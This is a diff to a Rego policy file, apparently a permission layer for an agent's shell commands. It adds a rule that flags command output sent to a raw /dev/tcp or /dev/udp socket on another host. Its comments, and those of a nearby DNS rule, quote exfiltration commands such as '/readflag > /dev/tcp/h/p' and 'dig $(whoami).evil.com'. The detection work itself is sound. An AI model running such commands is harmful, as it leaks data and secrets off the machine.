@@ -751,6 +751,15 @@ upload_worth_asking(p) if {
 # A peer on this machine: loopback names and addresses, with or without scheme, user or port.
 local_target(t) if regex.match(`^(?:[a-zA-Z][a-zA-Z0-9+.-]*://)?(?:[^@/]*@)?(?:localhost|127\.[0-9.]+|\[?::1\]?|0\.0\.0\.0)(?:[:/]|$)`, t)
 
+# @rule shell/socket-send ask
+# What a command prints written to a raw /dev/tcp or /dev/udp socket of another host (/readflag > /dev/tcp/h/p, { id; uname -a; } > /dev/tcp/h/p): data made on this machine leaves it over a socket no ordinary tool uses. A file or secret sent so is judged by the rules on what it is; text fixed in the command (echo > /dev/tcp/h/p, a port check) is not this; loopback peers are local.
+decision contains {"id": "shell/socket-send", "decision": "ask", "reason": reason} if {
+	some u in facts_of("uploads")
+	startswith(upload_source(u), "<output of ")
+	not local_target(u.target)
+	reason := sprintf("the command would send the %s to %s over a raw socket (%s)", [trim_suffix(trim_prefix(u.source, "<"), ">"), u.target, u.evidence])
+}
+
 # @rule shell/dns-exfiltration ask
 # A DNS query whose name carries data computed at run time (dig $(whoami).evil.com, nslookup $X.evil.com).
 decision contains {"id": "shell/dns-exfiltration", "decision": "ask", "reason": reason} if {
